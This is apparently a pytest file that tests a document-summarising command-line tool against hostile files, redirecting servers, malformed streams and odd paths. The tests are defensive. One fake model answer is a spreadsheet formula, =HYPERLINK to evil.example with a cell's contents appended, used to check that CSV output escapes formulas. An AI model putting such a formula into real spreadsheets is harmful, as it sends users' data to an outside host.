"""Hostile files, hostile servers, odd paths (issue 20): the real program, end to end.

Nothing here touches the real /dev; FIFOs, sockets and symlinks live in temporary folders.
"""

from __future__ import annotations

import csv
import io
import json
import os
import sqlite3
import subprocess
import sys
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from tests.conftest import API_KEY
from tests.support.cli import longdoc
from tests.support.raw_server import RawServer, content, sse
from tests.support.sglang_server import FakeSGLang

ROOT = Path(__file__).resolve().parents[2]


def chats(server: FakeSGLang) -> int:
    return sum(r.path.endswith("/chat/completions") for r in server.requests)


def one_error(stderr: str) -> str:
    """The single ``Error:`` line of a failed command (and no traceback)."""
    assert "Traceback" not in stderr, stderr
    errors = [line for line in stderr.splitlines() if line.startswith("Error:")]
    assert len(errors) == 1, stderr
    return errors[0]


def docs(folder: Path, count: int = 2) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    for n in range(count):
        (folder / f"doc-{n}.md").write_text(f"# Doc {n}\n\nThe fee for item {n} is {n + 7} EUR.\n")
    return folder


# --- item 1: --out --------------------------------------------------------------------------


def test_a_bad_out_is_refused_before_anything_is_asked(
    sglang: FakeSGLang, home: Path, tmp_path: Path
) -> None:
    folder = docs(tmp_path / "docs")
    for out in (tmp_path / "missing" / "r.md", tmp_path):
        done = longdoc(
            "summarize", str(folder), "--out", str(out), home=home, server=sglang, api_key=API_KEY
        )
        assert done.returncode == 2, done.stderr
        assert str(out) in one_error(done.stderr)
    assert chats(sglang) == 0


def test_out_through_a_symlink_and_into_a_fifo(
    sglang: FakeSGLang, home: Path, tmp_path: Path
) -> None:
    folder = docs(tmp_path / "docs")
    target = tmp_path / "target.md"
    link = tmp_path / "link.md"
    link.symlink_to(target)
    done = longdoc(
        "summarize", str(folder), "--out", str(link), home=home, server=sglang, api_key=API_KEY
    )
    assert done.returncode == 0, done.stderr
    assert link.is_symlink() and target.read_text().startswith("# Summaries")
    fifo = tmp_path / "pipe.md"
    os.mkfifo(fifo)
    reader = subprocess.Popen(["cat", str(fifo)], stdout=subprocess.PIPE)
    done = longdoc(
        "summarize", str(folder), "--out", str(fifo), home=home, server=sglang, api_key=API_KEY
    )
    out, _ = reader.communicate(timeout=60)
    assert done.returncode == 0, done.stderr
    assert out.startswith(b"# Summaries") and fifo.exists() and not fifo.is_file()


# --- item 4: CSV formulas -------------------------------------------------------------------


def test_review_grid_cells_never_start_a_formula(
    sglang: FakeSGLang, home: Path, tmp_path: Path
) -> None:
    folder = docs(tmp_path / "docs", 1)
    questions = tmp_path / "q.txt"
    questions.write_text("What is the fee?\n=1+1 is a question too\n")
    sglang.behaviour.update(answer_text='=HYPERLINK("http://evil.example/?"&A1,"click")')
    out = tmp_path / "grid.csv"
    done = longdoc(
        "review", str(folder), "--questions", str(questions), "--out", str(out),
        home=home, server=sglang, api_key=API_KEY,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    rows = list(csv.reader(io.StringIO(out.read_text())))
    assert rows[0][-1] == "'=1+1 is a question too"
    cells = [c for row in rows for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert rows[1][5].startswith("'=HYPERLINK(")


# --- item 8: redirects ----------------------------------------------------------------------


class _Recorder(ThreadingHTTPServer):
    """A loopback HTTP server: records every request; answers models, redirects ``redirect``."""

    daemon_threads = True

    def __init__(self, redirect: set[str] | None, location: str = "") -> None:
        self.redirect = redirect  # None: every path
        self.location = location
        self.seen: list[tuple[str, str, dict[str, str]]] = []
        super().__init__(("127.0.0.1", 0), _RecorderHandler)
        threading.Thread(target=self.serve_forever, daemon=True).start()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"


class _RecorderHandler(BaseHTTPRequestHandler):
    server: _Recorder

    def log_message(self, *args: object) -> None:
        pass

    def _handle(self) -> None:
        length = int(self.headers.get("content-length") or 0)
        if length:
            self.rfile.read(length)
        self.server.seen.append((self.command, self.path, dict(self.headers)))
        redirect = self.server.redirect
        if redirect is None or self.path.split("?")[0] in redirect:
            self.send_response(307 if self.command == "POST" else 302)
            self.send_header("Location", self.server.location + self.path)
            self.send_header("Content-Length", "0")
            self.end_headers()
            return
        if self.path.startswith("/v1/models"):
            body = json.dumps({"object": "list", "data": [
                {"id": "m", "object": "model", "max_model_len": 262144}]}).encode()  # fmt: skip
            self.send_response(200)
            self.send_header("Content-Type", "application/json")
        else:
            body = b'{"error": "not here"}'
            self.send_response(404)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    do_GET = do_POST = _handle


REDIRECTED = [
    ("ask", {"/v1/models"}),
    ("ask", {"/v1/chat/completions"}),
    ("ask", {"/server_info"}),
    ("warm", {"/v1/completions", "/generate"}),
    ("summarize", {"/v1/chat/completions"}),
    ("doctor", None),
    ("selftest", None),
]


@pytest.mark.parametrize(("command", "paths"), REDIRECTED)
def test_no_request_follows_a_redirect(
    home: Path, tmp_path: Path, command: str, paths: set[str] | None
) -> None:
    elsewhere = _Recorder(redirect=set())
    server = _Recorder(paths, location=elsewhere.url.replace("127.0.0.1", "localhost"))
    doc = docs(tmp_path / "docs", 1) / "doc-0.md"
    args = {
        "ask": ["ask", str(doc), "What is the fee?"],
        "warm": ["warm", str(doc)],
        "summarize": ["summarize", str(doc)],
        "doctor": ["doctor"],
        "selftest": ["server", "selftest", "--lengths", "8k"],
    }[command]
    full = {**os.environ, "LONGDOC_HOME": str(home), "PYTHONPATH": str(ROOT)}
    done = subprocess.run(
        [sys.executable, "-m", "desktop.cli.main", *args, "--endpoint", server.url,
         "--api-key", "secret-key"],
        capture_output=True, text=True, env=full, timeout=300, check=False,
    )  # fmt: skip
    try:
        assert elsewhere.seen == [], elsewhere.seen
        if command == "doctor":
            assert done.returncode == 7, done.stderr + done.stdout
            assert "redirect" in done.stdout and server.url in done.stdout
            return
        assert server.seen, done.stderr
        if command == "summarize":
            assert done.returncode == 6, done.stderr
            assert "redirect" in done.stdout + done.stderr
            return
        assert done.returncode == 4, done.stderr
        line = one_error(done.stderr)
        assert "redirect" in line and server.url in line
    finally:
        for each in (server, elsewhere):
            each.shutdown()
            each.server_close()


def test_model_info_and_the_server_manager_probes_follow_no_redirect() -> None:
    from desktop.answering.scans import reads_images
    from desktop.errors import ServerRedirected
    from server_manager import probe

    elsewhere = _Recorder(redirect=set())
    server = _Recorder(None, location=elsewhere.url)
    try:
        with pytest.raises(ServerRedirected, match="redirect"):
            reads_images(server.url + "/v1", "secret-key")
        assert probe.get(server.url + "/v1/models", "secret-key").status != 200
        assert not probe.lists_model(server.url, "secret-key", "")
        assert probe.health(server.url) != "ok"
        assert len(server.seen) == 4 and elsewhere.seen == []
    finally:
        for each in (server, elsewhere):
            each.shutdown()
            each.server_close()


# --- item 5: malformed streams; item 10: nonsense context -----------------------------------


def _stored(home: Path) -> list[sqlite3.Row]:
    conn = sqlite3.connect(home / "longdoc.db")
    conn.row_factory = sqlite3.Row
    try:
        return conn.execute("SELECT * FROM answers ORDER BY id").fetchall()
    finally:
        conn.close()


def _ask(home: Path, server: RawServer, doc: Path) -> subprocess.CompletedProcess[str]:
    full = {**os.environ, "LONGDOC_HOME": str(home), "PYTHONPATH": str(ROOT)}
    return subprocess.run(
        [sys.executable, "-m", "desktop.cli.main", "ask", str(doc), "What is the fee?",
         "--endpoint", server.url, "--api-key", "k"],
        capture_output=True, text=True, env=full, timeout=300, check=False,
    )  # fmt: skip


@pytest.mark.parametrize(
    "bad",
    [b"data: {not json at all\n\n", sse(b'{"choices": [{"delta": {"content": "\xff\xfe"}}]}'),
     sse({"choices": "not a list"}), sse({"choices": [{"delta": {"content": 7}}]})],
    ids=["json", "utf8", "shape", "content"],
)  # fmt: skip
def test_a_malformed_stream_is_one_error_and_keeps_the_partial_answer(
    home: Path, tmp_path: Path, bad: bytes
) -> None:
    doc = docs(tmp_path / "docs", 1) / "doc-0.md"
    with RawServer([content("Partial "), bad, content("more", "stop")]) as server:
        done = _ask(home, server, doc)
    assert done.returncode == 5, done.stderr
    assert "malformed" in one_error(done.stderr)
    (row,) = _stored(home)
    assert row["status"] == "incomplete" and row["answer"] == "Partial "


def test_absurd_usage_is_ignored_and_the_answer_stored_complete(home: Path, tmp_path: Path) -> None:
    doc = docs(tmp_path / "docs", 1) / "doc-0.md"
    usage = sse({"id": "x", "object": "chat.completion.chunk", "model": "m", "choices": [],
                 "usage": {"prompt_tokens": 10**19, "completion_tokens": 3,
                           "total_tokens": 10**19}})  # fmt: skip
    with RawServer([content("The fee is 7 EUR."), content("", "stop"), usage]) as server:
        done = _ask(home, server, doc)
    assert done.returncode == 0, done.stderr
    assert "Traceback" not in done.stderr and "10000000000000000000" not in done.stderr
    (row,) = _stored(home)
    assert row["status"] == "complete" and row["answer"] == "The fee is 7 EUR."
    assert row["prompt_tokens"] is None


@pytest.mark.parametrize("context", [-5, 0])
def test_a_nonsensical_context_is_the_servers_problem(
    home: Path, tmp_path: Path, context: int
) -> None:
    doc = docs(tmp_path / "docs", 1) / "doc-0.md"
    with RawServer([content("x", "stop")], context_length=context) as server:
        done = _ask(home, server, doc)
        assert server.chats == 0
    assert done.returncode == 5, done.stderr
    line = one_error(done.stderr)
    assert str(context) in line and "context length" in line


# --- items 6 and 7: hostile files in a batch and in a folder --------------------------------


def test_hostile_files_fail_alone_in_a_batch_and_in_ingest(
    sglang: FakeSGLang, home: Path, tmp_path: Path
) -> None:
    from tests.support import hostile_files as hostile

    folder = docs(tmp_path / "deal", 1)
    hostile.transcript_with_absurd_hour(folder / "meeting.vtt")
    hostile.sparse_text(folder / "server.log", 20 << 30)
    hostile.docx_deflate_bomb(folder / "contract.docx")
    hostile.docx_doctype_utf16(folder / "annex.docx")
    out = tmp_path / "report.md"
    done = longdoc(
        "summarize", str(folder), "--out", str(out), home=home, server=sglang, api_key=API_KEY
    )
    assert done.returncode == 6, done.stderr
    assert "Traceback" not in done.stderr
    report = out.read_text()
    failed = report.split("## Failed", 1)[1]
    for name in ("server.log", "contract.docx", "annex.docx"):
        assert name in failed
    assert chats(sglang) == 2  # doc-0.md and the meeting (its absurd cue skipped)
    ingest = longdoc("ingest", str(folder), home=home)
    assert ingest.returncode == 3, ingest.stderr
    assert "Traceback" not in ingest.stderr
    assert len([ln for ln in ingest.stderr.splitlines() if ln.startswith("Error:")]) == 3
    assert "doc-0.md" in ingest.stdout and "meeting.vtt" in ingest.stdout
